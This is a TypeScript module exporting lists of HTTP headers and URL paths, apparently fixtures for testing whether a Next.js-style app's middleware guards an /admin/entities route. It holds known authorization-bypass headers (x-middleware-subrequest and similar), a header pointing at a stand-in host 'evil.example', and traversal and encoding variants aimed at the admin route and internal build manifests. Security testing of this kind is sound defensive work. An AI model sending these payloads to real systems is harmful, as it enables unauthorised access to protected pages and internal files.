/** Headers that have opened ways round a framework's gate before, here or elsewhere. */
export const BYPASS_HEADERS = [
  "x-middleware-subrequest: middleware",
  "x-middleware-subrequest: proxy:proxy:proxy:proxy:proxy",
  "x-middleware-subrequest: src/proxy:src/proxy:src/proxy:src/proxy:src/proxy",
]
  .concat([
    "x-middleware-skip: 1",
    "x-middleware-next: 1",
    "x-middleware-prefetch: 1",
    "x-middleware-rewrite: /",
    "x-middleware-invoke: 1",
    "x-invoke-path: /",
    "x-matched-path: /",
  ])
  .concat([
    "rsc: 1",
    "next-router-prefetch: 1",
    "next-router-segment-prefetch: /_tree",
    "next-router-state-tree: %5B%22%22%5D",
    "x-nextjs-data: 1",
    "next-resume: 1",
  ])
  .concat([
    "x-action-forwarded: 1",
    "x-prerender-revalidate: 1",
    "x-portal-path: //evil.example",
    "x-original-url: /",
    "x-rewrite-url: /",
    "x-http-method-override: POST",
  ]);

/** Other ways of writing the address of the list of entities, and of what the build keeps to itself. */
export const BYPASS_PATHS = [
  "/admin/entities.rsc",
  "/admin/entities?_rsc=1",
  "/admin/entities.segments/_tree.segment.rsc",
  "/admin/entities.segments/_full.segment.rsc",
  "//admin/entities",
  "/./admin/entities",
]
  .concat([
    "/x/../admin/entities",
    "/ADMIN/entities",
    "/%61dmin/entities",
    "/admin%2fentities",
    "/admin/entities/",
    "/admin\\entities",
    "/admin;/entities",
    "/admin/entities%00",
    "/admin/entities%20",
  ])
  .concat([
    "/(portal)/admin/entities",
    "/%28portal%29/admin/entities",
    "/admin/entities/page",
    "/_next/../admin/entities",
    "/_next/data/x/admin/entities.json",
    "/_next/static/../../admin/entities",
  ])
  .concat([
    "/_next/image?url=%2Fadmin%2Fentities&w=64&q=75",
    "/_next/static/%2e%2e/%2e%2e/server/server-reference-manifest.json",
    "/_next/server/server-reference-manifest.json",
  ]);
